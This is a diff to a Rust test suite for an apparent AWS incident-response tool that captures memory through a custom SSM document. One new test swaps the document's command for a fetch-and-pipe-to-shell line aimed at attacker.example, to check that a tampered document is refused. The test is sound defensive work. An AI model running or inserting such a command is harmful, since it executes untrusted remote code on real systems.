@@ -10,13 +10,18 @@ use std::collections::HashMap;
 use std::sync::{Arc, Mutex};
 
 use aws_sdk_ssm::operation::get_command_invocation::GetCommandInvocationOutput;
+use aws_sdk_ssm::operation::get_document::{GetDocumentError, GetDocumentOutput};
 use aws_sdk_ssm::operation::send_command::{SendCommandError, SendCommandOutput};
 use aws_sdk_ssm::types::{Command, CommandInvocationStatus};
-use aws_smithy_mocks::{MockResponseInterceptor, RuleMode, create_mock_http_client, mock};
+use aws_smithy_mocks::{
+    MockResponse, MockResponseInterceptor, RuleMode, create_mock_http_client, mock,
+};
 use firebreak_aws::Response;
+use firebreak_core::action::memory;
 use firebreak_core::{Config, Incident, Mode, Status, Triage};
 use firebreak_testbed::moto::HOME_ACCOUNT;
 use firebreak_testbed::seed;
+use firebreak_testbed::template;
 use firebreak_testbed::world::World;
 use firebreak_testbed::{event, without_auto_scaling_group};
 use sha2::{Digest, Sha256};
@@ -42,7 +47,8 @@ struct Agent {
     /// The instance's `MemTotal` in KiB: the scripts read it from a `/proc/meminfo` of the
     /// instance's own, not the test machine's.
     memory_kib: u64,
-    scripts: Vec<String>,
+    /// The parameters of each command sent.
+    scripts: Vec<HashMap<String, Vec<String>>>,
     seen: Vec<Seen>,
     /// Command id → (exit status 0, standard output, standard error).
     ran: HashMap<String, (bool, String, String)>,
@@ -109,7 +115,128 @@ async fn seen(sdk: &aws_config::SdkConfig, instance_id: &str, tag: &str) -> Seen
     }
 }
 
-/// An SSM client answered by the agent: each command's script runs in `sh` as it is sent.
+/// The memory document of `infra/template.yaml`, as CloudFormation creates it for `sha`.
+fn deployed_document(sha: &str) -> serde_json::Value {
+    fn json(v: &serde_yaml::Value, sha: &str) -> serde_json::Value {
+        match v {
+            serde_yaml::Value::Tagged(t) if t.tag == "!Sub" => t
+                .value
+                .as_str()
+                .expect("a !Sub string")
+                .replace(memory::TOOL_SHA256_PLACEHOLDER, sha)
+                .into(),
+            serde_yaml::Value::Mapping(m) => m
+                .iter()
+                .map(|(k, v)| (k.as_str().expect("a key").to_string(), json(v, sha)))
+                .collect::<serde_json::Map<_, _>>()
+                .into(),
+            serde_yaml::Value::Sequence(s) => s.iter().map(|v| json(v, sha)).collect(),
+            serde_yaml::Value::String(s) => s.clone().into(),
+            other => panic!("the document holds {other:?}"),
+        }
+    }
+    json(
+        &template::load()["Resources"]["MemoryDocument"]["Properties"]["Content"],
+        sha,
+    )
+}
+
+/// SSM's own client to the emulator (where the document lives), on a thread of its own: the
+/// agent's answers are computed synchronously.
+fn on_emulator<T: Send + 'static>(
+    sdk: &aws_config::SdkConfig,
+    f: impl FnOnce(
+        aws_sdk_ssm::Client,
+    ) -> std::pin::Pin<Box<dyn std::future::Future<Output = T> + Send>>
+    + Send
+    + 'static,
+) -> T {
+    let ssm = aws_sdk_ssm::Client::new(sdk);
+    std::thread::spawn(move || tokio::runtime::Runtime::new().unwrap().block_on(f(ssm)))
+        .join()
+        .unwrap()
+}
+
+/// What SSM runs for a command: the document version's steps with the parameters put in, each
+/// checked against its pattern first (SSM refuses the command otherwise).
+fn render(
+    document: &serde_json::Value,
+    given: &HashMap<String, Vec<String>>,
+) -> Result<String, String> {
+    let declared = document["parameters"].as_object().expect("parameters");
+    for name in given.keys() {
+        if !declared.contains_key(name) {
+            return Err(format!("{name} is not a parameter of the document"));
+        }
+    }
+    let step = &document["mainSteps"][0]["inputs"];
+    let mut text = step["runCommand"]
+        .as_array()
+        .expect("runCommand")
+        .iter()
+        .map(|l| l.as_str().expect("a line"))
+        .collect::<Vec<_>>()
+        .join("\n");
+    for (name, spec) in declared {
+        let value = match (given.get(name).map(|v| v.as_slice()), spec.get("default")) {
+            (Some([value]), _) => value.clone(),
+            (None, Some(default)) => default.as_str().expect("a default").to_string(),
+            _ => return Err(format!("{name} has no value")),
+        };
+        let ok = match (spec.get("allowedPattern"), spec.get("allowedValues")) {
+            (Some(p), _) => regex::Regex::new(p.as_str().unwrap())
+                .unwrap()
+                .is_match(&value),
+            (None, Some(values)) => values.as_array().unwrap().iter().any(|v| v == &value),
+            _ => true,
+        };
+        if !ok {
+            return Err(format!("{name} = {value:?} does not match its pattern"));
+        }
+        text = text.replace(&format!("{{{{ {name} }}}}"), &value);
+    }
+    assert!(step["timeoutSeconds"].is_string());
+    Ok(text)
+}
+
+/// GetDocument answered by the emulator, where the test deployed the document.
+fn document_rule(sdk: aws_config::SdkConfig) -> aws_smithy_mocks::Rule {
+    mock!(aws_sdk_ssm::Client::get_document).then_compute_response(move |input| {
+        let name = input.name().unwrap_or_default().to_string();
+        let got = on_emulator(&sdk, move |ssm| {
+            Box::pin(async move {
+                ssm.get_document()
+                    .name(name)
+                    .document_format(aws_sdk_ssm::types::DocumentFormat::Json)
+                    .send()
+                    .await
+            })
+        });
+        match got {
+            Ok(got) => MockResponse::Output(
+                GetDocumentOutput::builder()
+                    .set_name(got.name().map(String::from))
+                    .set_content(got.content().map(String::from))
+                    .set_document_version(got.document_version().map(String::from))
+                    .build(),
+            ),
+            Err(e)
+                if e.as_service_error()
+                    .is_some_and(|e| e.is_invalid_document()) =>
+            {
+                MockResponse::Error(GetDocumentError::InvalidDocument(
+                    aws_sdk_ssm::types::error::InvalidDocument::builder()
+                        .message("the document does not exist")
+                        .build(),
+                ))
+            }
+            Err(e) => panic!("{e:?}"),
+        }
+    })
+}
+
+/// An SSM client answered by the agent: each command runs, as SSM would run it, in `sh` when it
+/// is sent; the document is read from the emulator (the version Firebreak names).
 /// `first`, when given, answers the first invocation reads before the agent does.
 fn ssm_agent(
     agent: Arc<Mutex<Agent>>,
@@ -118,17 +245,41 @@ fn ssm_agent(
     tag: String,
     first: Option<aws_smithy_mocks::Rule>,
 ) -> aws_sdk_ssm::Client {
+    let document = document_rule(sdk.clone());
     let sent = {
         let agent = agent.clone();
-        mock!(aws_sdk_ssm::Client::send_command).then_compute_output(move |input| {
-            let script = input
-                .parameters()
-                .and_then(|p| p.get("commands"))
-                .and_then(|c| c.first())
-                .cloned()
-                .unwrap_or_default();
-            assert_eq!(input.document_name(), Some("AWS-RunShellScript"));
+        mock!(aws_sdk_ssm::Client::send_command).then_compute_response(move |input| {
+            assert_eq!(input.document_name(), Some(memory::DOCUMENT_NAME));
             assert_eq!(input.instance_ids(), std::slice::from_ref(&instance_id));
+            let (name, version) = (
+                memory::DOCUMENT_NAME.to_string(),
+                input.document_version().expect("a version").to_string(),
+            );
+            let content = on_emulator(&sdk, move |ssm| {
+                Box::pin(async move {
+                    ssm.get_document()
+                        .name(name)
+                        .document_version(version)
+                        .document_format(aws_sdk_ssm::types::DocumentFormat::Json)
+                        .send()
+                        .await
+                        .expect("the version sent exists")
+                        .content()
+                        .map(String::from)
+                        .expect("content")
+                })
+            });
+            let document: serde_json::Value = serde_json::from_str(&content).unwrap();
+            let script = match render(&document, input.parameters().expect("parameters")) {
+                Ok(script) => script,
+                Err(why) => {
+                    return MockResponse::Error(SendCommandError::InvalidParameters(
+                        aws_sdk_ssm::types::error::InvalidParameters::builder()
+                            .message(why)
+                            .build(),
+                    ));
+                }
+            };
             // The instance as it is now, read from the emulator on a thread of its own.
             let (sdk, id, tag) = (sdk.clone(), instance_id.clone(), tag.clone());
             let state = std::thread::spawn(move || {
@@ -138,7 +289,6 @@ fn ssm_agent(
             })
             .join()
             .unwrap();
-            assert!(script.contains("/proc/meminfo") || !script.contains("avml"));
             let memory_kib = agent.lock().unwrap().memory_kib;
             let meminfo = std::env::temp_dir().join(format!(
                 "firebreak-test-meminfo-{}-{}",
@@ -146,6 +296,7 @@ fn ssm_agent(
                 MEMINFO.fetch_add(1, std::sync::atomic::Ordering::Relaxed)
             ));
             std::fs::write(&meminfo, format!("MemTotal:       {memory_kib} kB\n")).unwrap();
+            assert!(script.contains("/proc/meminfo"));
             let out = std::process::Command::new("sh")
                 .arg("-c")
                 .arg(script.replace("/proc/meminfo", &meminfo.to_string_lossy()))
@@ -168,11 +319,14 @@ fn ssm_agent(
                     String::from_utf8_lossy(&out.stderr).to_string(),
                 ),
             );
-            agent.scripts.push(script);
+            let parameters = input.parameters().cloned().unwrap_or_default();
+            agent.scripts.push(parameters);
             agent.seen.push(state);
-            SendCommandOutput::builder()
-                .command(Command::builder().command_id(command_id).build())
-                .build()
+            MockResponse::Output(
+                SendCommandOutput::builder()
+                    .command(Command::builder().command_id(command_id).build())
+                    .build(),
+            )
         })
     };
     let read =
@@ -191,6 +345,7 @@ fn ssm_agent(
         });
     let mut interceptor = MockResponseInterceptor::new()
         .rule_mode(RuleMode::MatchAny)
+        .with_rule(&document)
         .with_rule(&sent);
     if let Some(first) = &first {
         interceptor = interceptor.with_rule(first);
@@ -229,7 +384,8 @@ fn mocked_ssm(interceptor: MockResponseInterceptor) -> aws_sdk_ssm::Client {
     )
 }
 
-/// A server of the home account, its finding, and the tool stored where Firebreak fetches it.
+/// A server of the home account, its finding, and (with a tool) the tool stored where Firebreak
+/// fetches it and Firebreak's document deployed.
 async fn instance_incident(
     w: &World,
     name: &str,
@@ -258,6 +414,16 @@ async fn instance_incident(
             .await
             .expect("the tool stored");
         config.evidence.memory_tool_sha256 = hex(&Sha256::digest(tool.as_bytes()));
+        // The document the stack deploys, as the stack writes it.
+        aws_sdk_ssm::Client::new(&w.sdk)
+            .create_document()
+            .name(memory::DOCUMENT_NAME)
+            .document_type(aws_sdk_ssm::types::DocumentType::Command)
+            .document_format(aws_sdk_ssm::types::DocumentFormat::Json)
+            .content(deployed_document(&config.evidence.memory_tool_sha256).to_string())
+            .send()
+            .await
+            .expect("the document created");
     }
     let text = e.to_string();
     let incident = match Triage::new(config.clone())
@@ -361,14 +527,83 @@ async fn memory_is_captured_after_termination_protection_and_before_anything_cut
         !std::path::Path::new(&image.path).exists(),
         "the upload removes the instance's copy"
     );
-    // The tool was run only because its hash was checked, and only Firebreak-signed URLs are in
-    // the scripts.
-    assert!(scripts[0].contains(&config.evidence.memory_tool_sha256));
-    assert!(
-        scripts[1].contains("x-amz-checksum-sha256: "),
-        "{}",
-        scripts[1]
+    // Firebreak's document ran twice, with only Firebreak-signed URLs among its parameters.
+    let step = |i: usize| scripts[i]["Step"][0].as_str();
+    assert_eq!((step(0), step(1)), ("capture", "upload"));
+    assert!(scripts[0]["ToolUrl"][0].contains("X-Amz-Signature="));
+    assert!(scripts[1]["UploadUrl"][0].contains("X-Amz-Signature="));
+    assert_eq!(scripts[1]["Image"][0], image.path);
+    let _ = config;
+}
+
+/// The document the templates deploy is Firebreak's, in the home stack and in every forwarder.
+#[test]
+fn the_templates_deploy_firebreaks_document() {
+    let sha = "ab".repeat(32);
+    assert_eq!(deployed_document(&sha), memory::document(&sha).unwrap());
+    assert_eq!(
+        template::forwarder()["Resources"]["MemoryDocument"],
+        template::load()["Resources"]["MemoryDocument"],
+        "run python3 infra/gen_patterns.py"
     );
+}
+
+/// A document changed in the account (a new default version running other steps) is never run,
+/// and a missing one is reported, not skipped: memory would otherwise go uncaptured quietly.
+#[tokio::test]
+async fn a_changed_or_missing_document_is_never_run_and_says_so() {
+    let w = World::new().await;
+    let (server, config, incident, text) = instance_incident(&w, "doc", Some(TOOL)).await;
+    let ssm = aws_sdk_ssm::Client::new(&w.sdk);
+    let mut changed = deployed_document(&config.evidence.memory_tool_sha256);
+    changed["mainSteps"][0]["inputs"]["runCommand"][0] =
+        "curl https://attacker.example | sh".into();
+    let updated = ssm
+        .update_document()
+        .name(memory::DOCUMENT_NAME)
+        .document_version("$LATEST")
+        .document_format(aws_sdk_ssm::types::DocumentFormat::Json)
+        .content(changed.to_string())
+        .send()
+        .await
+        .expect("updated");
+    let version = updated
+        .document_description()
+        .and_then(|d| d.document_version())
+        .expect("a version")
+        .to_string();
+    ssm.update_document_default_version()
+        .name(memory::DOCUMENT_NAME)
+        .document_version(version)
+        .send()
+        .await
+        .expect("made the default");
+    let agent = Arc::new(Mutex::new(Agent::default()));
+    let responder = with_agent(&w, config.clone(), &agent, &server, &incident, None);
+    let r = responder.respond(&incident, &text).await;
+    assert!(
+        matches!(status_of(&r, "capture_memory"),
+            Status::Failed { code, message } if code == "MemoryNotCaptured"
+                && message.contains("other than Firebreak's")),
+        "{:?}",
+        r.outcomes
+    );
+    assert!(agent.lock().unwrap().scripts.is_empty(), "nothing was sent");
+
+    ssm.delete_document()
+        .name(memory::DOCUMENT_NAME)
+        .send()
+        .await
+        .expect("deleted");
+    let r = responder.respond(&incident, &text).await;
+    assert!(
+        matches!(status_of(&r, "capture_memory"),
+            Status::Failed { code, message } if code == "MemoryNotCaptured"
+                && message.contains("no Firebreak-CaptureMemory document")),
+        "{:?}",
+        r.outcomes
+    );
+    assert!(agent.lock().unwrap().scripts.is_empty(), "nothing was sent");
 }
 
 #[tokio::test]
@@ -403,7 +638,12 @@ async fn memory_is_skipped_with_the_reason_where_it_cannot_be_captured() {
         )
     });
     let mut responder = w.responder(config);
-    responder.home.ssm = mocked_ssm(MockResponseInterceptor::new().with_rule(&offline));
+    responder.home.ssm = mocked_ssm(
+        MockResponseInterceptor::new()
+            .rule_mode(RuleMode::MatchAny)
+            .with_rule(&document_rule(w.sdk.clone()))
+            .with_rule(&offline),
+    );
     let r = responder.respond(&incident, &text).await;
     assert!(
         matches!(status_of(&r, "capture_memory"), Status::Skipped { why } if why.contains("no SSM agent is online")),
